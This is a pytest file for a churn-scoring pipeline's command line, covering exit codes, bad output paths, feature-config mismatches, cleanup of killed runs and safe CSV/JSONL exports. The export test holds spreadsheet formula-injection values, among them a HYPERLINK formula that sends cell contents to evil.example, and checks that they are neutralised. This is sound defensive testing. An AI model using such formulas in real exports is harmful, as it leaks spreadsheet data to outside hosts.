"""Hostile probes of the `churn` command line: the exit code tells the truth, whatever is thrown at it.

One test per probe: display options after a published run, a bad `--out`, a model trained with another
feature config, leftovers of killed scoring runs, formula-like text in CRM exports, and `churn --version`.
The slow ones share one trained model (`trained`, session-scoped, from tests/conftest.py).
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
import tomllib
from importlib.metadata import version
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from churn_pipeline.cli import app
from churn_pipeline.core.config import Config
from churn_pipeline.core.errors import ConfigError
from tests.pipeline.test_export import AS_OF, make_at_risk, publish

ROOT = Path(__file__).resolve().parents[2]
runner = CliRunner()


def _config_file(cfg: Config, path: Path, **features) -> Path:
    """`cfg` as YAML with its model registry pinned (so `--out` moves only the outputs), features changed."""
    settings = cfg.model_dump(mode="json")
    settings["tracking"]["uri"] = cfg.tracking_uri
    settings["features"].update(features)
    path.write_text(yaml.safe_dump(settings))
    return path


def _hidden(folder: Path) -> set[str]:
    return {p.name for p in folder.iterdir() if p.name.startswith(".")}


# ---------------------------------------------------------------- 1. nothing fails after publishing


@pytest.mark.slow
def test_score_top_zero_and_a_failing_summary_still_exit_0_once_published(trained, tmp_path, monkeypatch):
    cfg, _ = trained
    cfg_path = _config_file(cfg, tmp_path / "c.yaml")
    out = tmp_path / "out"

    zero = runner.invoke(app, ["score", "-c", str(cfg_path), "--out", str(out), "--top", "0"])
    assert zero.exit_code == 0, zero.output
    (published,) = (out / "scores").iterdir()
    assert {p.name for p in published.iterdir()} >= {"at_risk.parquet", "scores.parquet", "manifest.json"}
    assert "Scored" in zero.output and "Traceback" not in zero.output

    # Any error while printing, after the outputs are out, is a warning and the run still succeeds.
    def broken_printer(result, top):
        raise RuntimeError("terminal went away")

    monkeypatch.setattr("churn_pipeline.cli.score._print_scoring", broken_printer)
    again = runner.invoke(app, ["score", "-c", str(cfg_path), "--out", str(out)])
    assert again.exit_code == 0, again.output
    assert "printing their summary failed (RuntimeError: terminal went away)" in again.output
    assert (published / "at_risk.parquet").is_file()

    assert runner.invoke(app, ["score", "-c", str(cfg_path), "--out", str(out), "--top", "-1"]).exit_code == 2


# ---------------------------------------------------------------- 2. a bad --out: exit 2 before any work


def test_out_pointing_at_a_file_exits_2_naming_the_path_for_every_command(company, tmp_path):
    settings = company.config_in(tmp_path / "work").model_dump(mode="json")
    cfg_path = tmp_path / "c.yaml"
    cfg_path.write_text(yaml.safe_dump(settings))
    a_file = tmp_path / "report.txt"
    a_file.write_text("not a folder\n")

    commands = [["features"], ["build-training-set"], ["train"], ["evaluate"], ["score"], ["export"]]
    for command in commands:
        for out in (a_file, a_file / "sub"):
            got = runner.invoke(app, [*command, "-c", str(cfg_path), "--out", str(out)])
            text = " ".join(got.output.split())  # rich wraps long lines
            assert got.exit_code == ConfigError.exit_code, (command, out, got.output)
            assert f"--out {out}" in text and "is a file, not a directory" in text, (command, got.output)
            assert "a directory you can write to" in text
    got = runner.invoke(app, ["simulate", "-c", str(cfg_path), "--out", str(a_file), "--customers", "50"])
    assert got.exit_code == 2 and "is a file, not a directory" in " ".join(got.output.split()), got.output
    assert a_file.read_text() == "not a folder\n"
    assert not (tmp_path / "work").exists(), "nothing was started"


# -------------------------------------------------- 3. a model trained with another feature config


@pytest.mark.slow
def test_model_trained_with_other_features_names_the_features_and_config_keys(trained, tmp_path):
    cfg, _ = trained
    assert cfg.features.windows == (7, 30, 90) and "plan" not in cfg.features.exclude_attributes
    cfg_path = _config_file(cfg, tmp_path / "c.yaml", windows=[7, 14, 30], exclude_attributes=["plan"])
    out = tmp_path / "out"

    got = runner.invoke(app, ["score", "-c", str(cfg_path), "--out", str(out)])

    assert got.exit_code == ConfigError.exit_code, got.output
    text = got.output
    assert "does not match the feature config" in text
    missing, extra = text.split("the config produces")
    # expected by the model, not produced: grouped by the deciding key
    assert "features.windows [7, 14, 30] lacks 90: events_90d, events_login_90d," in missing
    assert "customer attributes no longer produced (features.exclude_attributes" in missing
    assert "categorical_attributes / numeric_attributes, or the customers table lacks them): plan" in missing
    # produced, unknown to the model
    assert "features.windows [7, 14, 30] has 14: events_14d," in extra and "_90d" not in extra
    assert "config the model was trained with" in extra and "churn train" in extra
    assert "population_stability" not in text
    assert not (out / "scores").exists() or not any((out / "scores").iterdir())


# ------------------------------------------------------ 4. leftovers of killed scoring runs are removed


def _killed_publish(scores: Path, as_of: str) -> Path:
    """A real leftover: a process enters churn_pipeline.data.io.atomic_directory, writes a file, and is SIGKILLed."""
    code = (
        "import os, signal, sys\n"
        "from pathlib import Path\n"
        "from churn_pipeline.data.io import atomic_directory\n"
        "with atomic_directory(Path(sys.argv[1])) as tmp:\n"
        "    (tmp / 'scores.parquet').write_bytes(b'half a file')\n"
        "    os.kill(os.getpid(), signal.SIGKILL)\n"
    )
    before = _hidden(scores) if scores.is_dir() else set()
    proc = subprocess.run([sys.executable, "-c", code, str(scores / f"as_of={as_of}")], cwd=ROOT, check=False)
    assert proc.returncode == -9
    (name,) = _hidden(scores) - before
    return scores / name


def _age(folder: Path, seconds: float) -> None:
    then = time.time() - seconds
    for p in [*folder.iterdir(), folder]:
        os.utime(p, (then, then))


@pytest.mark.slow
def test_scoring_removes_old_leftovers_of_killed_runs_but_not_live_ones(trained, tmp_path):
    cfg, _ = trained
    cfg_path = _config_file(cfg, tmp_path / "c.yaml")
    out = tmp_path / "out"
    scores = out / "scores"
    stale = _killed_publish(scores, "2025-01-01")
    _age(stale, 3 * 3600)  # killed last night
    live = _killed_publish(scores, "2025-01-02")  # as if another run were writing it right now
    (scores / ".not-ours.tmp").mkdir()
    _age(scores / ".not-ours.tmp", 3 * 3600)
    assert stale.name.startswith(".as_of=2025-01-01.") and stale.name.endswith(".tmp")

    got = runner.invoke(app, ["score", "-c", str(cfg_path), "--out", str(out), "--top", "3"])

    assert got.exit_code == 0, got.output
    assert not stale.exists(), "the killed run's folder is gone"
    assert live.is_dir() and (live / "scores.parquet").is_file(), "a fresh one may be a live run: kept"
    assert (scores / ".not-ours.tmp").is_dir(), "only the names atomic_directory makes are touched"


def test_replaced_copies_are_removed_only_when_their_date_is_published(tmp_path):
    from churn_pipeline.stages.publish import remove_stale_publish_dirs

    scores = tmp_path / "scores"
    published, orphan = scores / ".as_of=2025-01-01.old-4242", scores / ".as_of=2025-01-02.old-4243"
    for folder in (published, orphan, scores / "as_of=2025-01-01"):
        folder.mkdir(parents=True)
        (folder / "at_risk.parquet").write_bytes(b"x")
    for folder in (published, orphan):
        _age(folder, 3 * 3600)
    assert remove_stale_publish_dirs(scores, time.time() - 900) == [published.name]
    assert orphan.is_dir(), "the only copy of 2025-01-02 (its successor never landed) is kept"


# ----------------------------------------------------------------------- 5. CRM-safe file exports

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1)", "\tC9", "C0005"]


def test_exports_neutralise_formula_cells_and_round_money_to_cents(tmp_path):
    work = tmp_path / "work"
    cfg_path = tmp_path / "c.yaml"
    cfg_path.write_text(f"workdir: {work}\n")
    frame = make_at_risk(len(HOSTILE))
    frame["customer_id"] = HOSTILE
    frame["expected_value_at_risk"] = 170.82 + frame.index * 0.0  # 170.819999999999993 in binary
    frame.loc[1, "reason_1"] = "=1+2 complaints"
    frame.loc[2, "suggested_action"] = "-call them"
    publish(Config(workdir=work), frame)

    for target in ("csv", "jsonl"):
        got = runner.invoke(app, ["export", "-c", str(cfg_path), "--as-of", str(AS_OF), "--to", target])
        assert got.exit_code == 0, got.output

    text = (work / "exports" / f"at_risk_{AS_OF}.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["customer_id"] for r in rows] == [f"'{h}" for h in HOSTILE[:5]] + ["C0005"]
    assert rows[1]["reason_1"] == "'=1+2 complaints" and rows[2]["suggested_action"] == "'-call them"
    assert rows[0]["reason_1"] == frame.loc[0, "reason_1"], "harmless text is unchanged"
    assert {r["expected_value_at_risk"] for r in rows} == {"170.82"}
    assert float(rows[0]["churn_probability"]) == round(frame.loc[0, "churn_probability"], 6)

    lines = (work / "exports" / f"at_risk_{AS_OF}.jsonl").read_text(encoding="utf-8").splitlines()
    assert all('"expected_value_at_risk":170.82,' in line for line in lines), lines[0]
    records = [json.loads(line) for line in lines]
    assert [r["customer_id"] for r in records] == HOSTILE, "JSON is read by programs: ids as they are"
    assert records[0]["churn_probability"] == round(frame.loc[0, "churn_probability"], 6)


# --------------------------------------------------------------------------- 6. packaging and --version


def test_version_option_and_mlflow_bound_match_the_installed_package():
    from packaging.requirements import Requirement

    got = runner.invoke(app, ["--version"])
    assert got.exit_code == 0, got.output
    assert got.output.strip() == f"churn-pipeline {version('churn-pipeline')}"

    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    (mlflow,) = [Requirement(r) for r in project["dependencies"] if Requirement(r).name == "mlflow"]
    assert version("mlflow") in mlflow.specifier
    assert "2.16.0" not in mlflow.specifier, "the code uses MLflow 3 APIs"
    assert project["version"] == version("churn-pipeline")
